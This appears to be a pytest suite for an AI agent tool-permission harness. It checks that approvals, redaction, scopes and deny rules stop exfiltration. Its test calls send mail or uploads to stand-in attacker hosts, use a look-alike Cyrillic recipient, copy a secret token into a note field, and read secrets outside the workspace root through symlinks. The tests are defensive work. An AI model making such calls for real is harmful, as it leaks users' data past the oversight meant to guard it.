"""Attacks on the surfaces that showed and decided a call each from its own derivation.

Issue 28, "What decides the call, and what the person is shown" and "What is withheld":
every surface now renders the call's one view (``clearance.harness.view``). Each test
here failed before it: the surface decided or showed from a derivation of its own.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from clearance import (
    AgentDefinition,
    CallContext,
    Harness,
    MemoryJournal,
    Principal,
    Tool,
    ToolRegistry,
)
from clearance.guardrails import ArgumentPiiRedactor
from clearance.harness.approvals import Answer, PermissionAsk, PermissionDecision
from clearance.harness.ask_display import ask_lines
from clearance.harness.ask_store_sqlite import SqliteAskStore
from clearance.policy import LocalEvaluator

pytestmark = pytest.mark.anyio

ALICE = Principal("User", "alice")

MAIL_SCHEMA = {
    "type": "object",
    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
    "required": ["to", "body"],
    "additionalProperties": False,
}


def _mail(sent: list[dict[str, Any]], **options: Any) -> ToolRegistry:
    def send(arguments: dict[str, Any], ctx: CallContext) -> str:
        sent.append(arguments)
        return "sent"

    registry = ToolRegistry()
    registry.register("mail", [Tool("send", send, input_schema=MAIL_SCHEMA, **options)])
    return registry


# --- what decides: for a tool without facts, every argument --------------------------------


async def test_a_recipient_redacted_by_a_guardrail_is_never_approved_blind() -> None:
    """A tool without facts (as every MCP tool behind the gateway) and an argument
    guardrail that withholds personal data: the person was asked about
    ``to: "[REDACTED]"``, approved, and the mail went to the attacker."""
    sent: list[dict[str, Any]] = []
    shown: list[PermissionAsk] = []

    def person(ask: PermissionAsk) -> Answer:
        shown.append(ask)
        return "allow_once"

    journal = MemoryJournal()
    async with Harness(
        _mail(sent),
        evaluator=LocalEvaluator(ask=["mail.send"]),
        argument_guardrails=[ArgumentPiiRedactor(kinds=["email"])],
        journal=journal,
    ) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        out = await session.call_tool(
            "mail__send", {"to": "drop@attacker.example", "body": "the numbers"}
        )
    assert shown == [] and sent == []
    assert out.status == "denied"
    assert "(/to) is withheld and cannot be shown to a person" in out.text
    assert "attacker.example" not in json.dumps([e.data for e in journal.events()])


async def test_a_tool_without_facts_shows_every_argument_as_deciding() -> None:
    asks: list[PermissionAsk] = []

    def person(ask: PermissionAsk) -> Answer:
        asks.append(ask)
        return "deny"

    async with Harness(_mail([]), evaluator=LocalEvaluator(ask=["mail.send"])) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        await session.call_tool("mail__send", {"body": "x" * 5000, "to": "bob@corp.example"})
    [ask] = asks
    assert ask.deciding == ("body", "to")
    # Both shown whole: nothing that decides is elided.
    lines = ask_lines(ask.arguments, ask.deciding, width=80)
    assert any(line == 'to: "bob@corp.example"' for line in lines)
    assert any(len(line) > 5000 for line in lines)


async def test_no_path_scope_is_offered_while_a_url_decides_too(tmp_path: Path) -> None:
    """An upload without facts: a "path under reports/" scope was offered, and the grant
    then sent payroll to another host without asking."""
    uploaded: list[dict[str, Any]] = []

    def upload(arguments: dict[str, Any], ctx: CallContext) -> str:
        uploaded.append(arguments)
        return "uploaded"

    schema = {
        "type": "object",
        "properties": {"path": {"type": "string"}, "url": {"type": "string"}},
        "required": ["path", "url"],
        "additionalProperties": False,
    }
    registry = ToolRegistry()
    registry.register("files", [Tool("upload", upload, input_schema=schema)])
    asks: list[PermissionAsk] = []

    def widest_path_scope(ask: PermissionAsk) -> PermissionDecision:
        asks.append(ask)
        prefix = [s for s in ask.suggestions if s.kind == "prefix"]
        return PermissionDecision("allow_always", scope=prefix[0] if prefix else None)

    async with Harness(registry, evaluator=LocalEvaluator(ask=["files.upload"])) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=widest_path_scope)
        first = {"path": "reports/q3.pdf", "url": "https://share.corp.example/in"}
        assert (await session.call_tool("files__upload", first)).ok
        assert [s.kind for s in asks[0].suggestions] == ["exact", "tool"]
        session.on_permission_ask = lambda ask: "deny"
        payroll = {"path": "reports/payroll.pdf", "url": "https://drop.attacker.example/"}
        out = await session.call_tool("files__upload", payroll)
    assert out.status == "denied"
    assert uploaded == [first]


async def test_an_optional_recipient_absent_from_the_asked_call_is_not_left_free(
    tmp_path: Path,
) -> None:
    """Declared facts, one of them optional: a path scope offered while the recipient was
    absent covered a later call that carried one."""
    (tmp_path / "docs").mkdir()
    sent: list[dict[str, Any]] = []

    def send(arguments: dict[str, Any], ctx: CallContext) -> str:
        sent.append(arguments)
        return "sent"

    schema = {
        "type": "object",
        "properties": {"attachment": {"type": "string"}, "to": {"type": "string"}},
        "required": ["attachment"],
        "additionalProperties": False,
    }
    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "share",
                send,
                input_schema=schema,
                root=tmp_path,
                facts={"/attachment": "path", "/to": "email"},
            )
        ],
    )
    asks: list[PermissionAsk] = []

    def widest(ask: PermissionAsk) -> PermissionDecision:
        asks.append(ask)
        prefix = [s for s in ask.suggestions if s.kind == "prefix"]
        return PermissionDecision("allow_always", scope=prefix[0] if prefix else None)

    async with Harness(registry, evaluator=LocalEvaluator(ask=["mail.share"])) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=widest)
        assert (await session.call_tool("mail__share", {"attachment": "docs/a.pdf"})).ok
        assert [s.kind for s in asks[0].suggestions] == ["exact", "tool"]
        session.on_permission_ask = lambda ask: "deny"
        out = await session.call_tool(
            "mail__share", {"attachment": "docs/b.pdf", "to": "x@attacker.example"}
        )
    assert out.status == "denied" and len(sent) == 1


# --- look-alikes are marked wherever a person approves --------------------------------------


async def test_a_mixed_script_recipient_is_marked_with_its_canonical_form(
    tmp_path: Path,
) -> None:
    asks: list[PermissionAsk] = []

    def person(ask: PermissionAsk) -> Answer:
        asks.append(ask)
        return "deny"

    store = SqliteAskStore(tmp_path / "asks.db")
    recipient = "ceo@corp.ex\u0430mple.com"  # a Cyrillic a
    async with Harness(
        _mail([]), evaluator=LocalEvaluator(ask=["mail.send"]), ask_store=store
    ) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        await session.call_tool("mail__send", {"to": recipient, "body": "hi"}, call_id="c1")
    [ask] = asks
    note = ask.notes["to"]
    assert "Cyrillic and Latin" in note and "ceo@corp.xn--exmple-4nf.com" in note
    assert "body" not in ask.notes
    lines = ask_lines(ask.arguments, ask.deciding, width=100, notes=ask.notes)
    at = lines.index(f'to: "{recipient}"')
    assert lines[at + 1].startswith("  ! look-alike: mixes Cyrillic and Latin letters")
    # The store keeps the note: the inbox and `clearance asks show` render it from there.
    [stored] = store.all()
    assert dict(stored.notes) == ask.notes
    store.close()


# --- what is withheld: every copy, on every surface -----------------------------------------

TOKEN = "tok-7f3a9c2e51d84b60"


async def test_a_withheld_token_copied_into_another_argument_leaves_no_surface(
    tmp_path: Path,
) -> None:
    """The model copies a sensitive token into a free-text argument: scrubbed in the
    journal, but shown in the ask a person's callback received, in its facts, in the
    store's asks table and in ``Harness.decide``."""
    schema = {
        "type": "object",
        "properties": {
            "path": {"type": "string"},
            "token": {"type": "string"},
            "note": {"type": "string"},
        },
        "required": ["path", "token", "note"],
        "additionalProperties": False,
    }
    registry = ToolRegistry()
    registry.register(
        "api",
        [
            Tool(
                "publish",
                lambda arguments, ctx: "ok",
                input_schema=schema,
                sensitive=["/token"],
                root=tmp_path,
                facts={"/path": "path"},
            )
        ],
    )
    asks: list[PermissionAsk] = []

    def person(ask: PermissionAsk) -> Answer:
        asks.append(ask)
        return "allow_once"

    db = tmp_path / "asks.db"
    store = SqliteAskStore(db)
    journal = MemoryJournal()
    arguments = {"path": "out.txt", "token": TOKEN, "note": f"auth was {TOKEN}"}
    async with Harness(
        registry, evaluator=LocalEvaluator(ask=["api.publish"]), ask_store=store, journal=journal
    ) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        assert (await session.call_tool("api__publish", arguments, call_id="c1")).ok
        decision = await harness.decide(principal=ALICE, tool="api__publish", arguments=arguments)
    store.close()
    [ask] = asks
    assert TOKEN not in json.dumps(ask.to_json())
    assert ask.arguments["note"] == "auth was [REDACTED]"
    assert TOKEN not in json.dumps(decision.to_json())
    assert TOKEN not in db.read_bytes().decode("latin-1")
    assert TOKEN not in json.dumps([e.data for e in journal.events()])


async def test_a_sensitive_argument_of_a_tool_the_session_may_not_call_is_withheld() -> None:
    registry = ToolRegistry()
    schema = {
        "type": "object",
        "properties": {"password": {"type": "string"}},
        "additionalProperties": False,
    }
    registry.register(
        "vault",
        [
            Tool("open", lambda a, c: "ok", input_schema=schema, sensitive=["/password"]),
            Tool("list", lambda a, c: "ok"),
        ],
    )
    journal = MemoryJournal()
    async with Harness(
        registry, evaluator=LocalEvaluator(allow=["vault.*"]), journal=journal
    ) as harness:
        session = await harness.create_session(
            principal=ALICE, agent=AgentDefinition("lister", tools=["vault.list"])
        )
        out = await session.call_tool("vault__open", {"password": "hunter2-secret"})
    assert out.status == "invalid"
    assert "hunter2-secret" not in json.dumps([e.data for e in journal.events()])


# --- array facts mean what single ones do ---------------------------------------------------


def _recording(ran: list[Any]) -> Any:
    def run(arguments: dict[str, Any], ctx: CallContext) -> str:
        ran.append(arguments)
        return "ok"

    return run


async def test_a_link_out_of_the_root_inside_an_array_is_outside_as_it_is_alone(
    tmp_path: Path,
) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (tmp_path / "secret.txt").write_text("s")
    os.symlink(tmp_path, root / "link")
    ran: list[Any] = []
    registry = ToolRegistry()
    registry.register(
        "shell",
        [
            Tool(
                "run",
                _recording(ran),
                input_schema={
                    "type": "object",
                    "properties": {"command": {"type": "string"}},
                    "required": ["command"],
                    "additionalProperties": False,
                },
                root=root,
                facts={"/command": "command"},
            ),
            Tool(
                "run_all",
                _recording(ran),
                input_schema={
                    "type": "object",
                    "properties": {"commands": {"type": "array", "items": {"type": "string"}}},
                    "required": ["commands"],
                    "additionalProperties": False,
                },
                root=root,
                facts={"/commands/*": "command"},
            ),
        ],
    )
    evaluator = LocalEvaluator(
        allow=["shell.run(command=cat **)", "shell.run_all(commands=cat **)"]
    )
    async with Harness(registry, evaluator=evaluator) as harness:
        session = await harness.create_session(principal=ALICE)
        alone = await session.call_tool("shell__run", {"command": "cat link/secret.txt"})
        inside = await session.call_tool(
            "shell__run_all", {"commands": ["cat ok.txt", "cat link/secret.txt"]}
        )
        fine = await session.call_tool("shell__run_all", {"commands": ["cat a.txt", "cat d/b"]})
    assert alone.status == "denied"
    assert inside.status == "denied", inside.text
    assert fine.ok
    assert ran == [{"commands": ["cat a.txt", "cat d/b"]}]


async def test_a_deny_on_what_a_link_resolves_to_holds_inside_an_array(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "x").write_text("s")
    os.symlink(tmp_path / "secret", tmp_path / "alias")
    ran: list[Any] = []
    schema = {
        "type": "object",
        "properties": {"commands": {"type": "array", "items": {"type": "string"}}},
        "required": ["commands"],
        "additionalProperties": False,
    }
    registry = ToolRegistry()
    registry.register(
        "shell",
        [
            Tool(
                "run_all",
                _recording(ran),
                input_schema=schema,
                root=tmp_path,
                facts={"/commands/*": "command"},
            )
        ],
    )
    evaluator = LocalEvaluator(
        allow=["shell.run_all(commands=cat **)"], deny=["shell.run_all(commands=cat secret/**)"]
    )
    async with Harness(registry, evaluator=evaluator) as harness:
        session = await harness.create_session(principal=ALICE)
        out = await session.call_tool("shell__run_all", {"commands": ["cat ok.txt", "cat alias/x"]})
    assert out.status == "denied" and ran == []
